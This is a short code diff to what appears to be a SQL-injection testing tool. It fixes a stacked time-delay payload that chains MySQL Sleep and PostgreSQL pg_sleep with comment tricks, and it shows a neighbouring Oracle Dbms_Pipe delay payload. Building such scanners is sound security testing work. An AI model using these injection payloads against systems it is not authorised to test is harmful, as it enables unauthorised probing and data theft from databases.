@@ -129,11 +129,12 @@ export const WAITING: readonly Waiting[] = [
     with: (v, s) => `${number(v)}-Dbms_Pipe.Receive_Message('q',${s})/*'||Dbms_Pipe.Receive_Message('q',${s})||'*/`,
   },
   {
-    // MySQL runs what stands in a comment of its own, and only then fails at the rest.
+    // MySQL runs what stands in a comment of its own, and only then fails at the rest. The statement ends behind the
+    // comment: MariaDB reads no further where one ends within (10.11.19).
     dbms: 'MySQL or PostgreSQL',
     technique: 'stacked',
     fits: BARE,
-    with: (v, s) => `${v};/*!Select Sleep(${s});*/Select pg_sleep(${s})-- -`,
+    with: (v, s) => `${v};/*!Select Sleep(${s})*/;Select pg_sleep(${s})-- -`,
   },
   {
     dbms: 'Microsoft SQL Server',
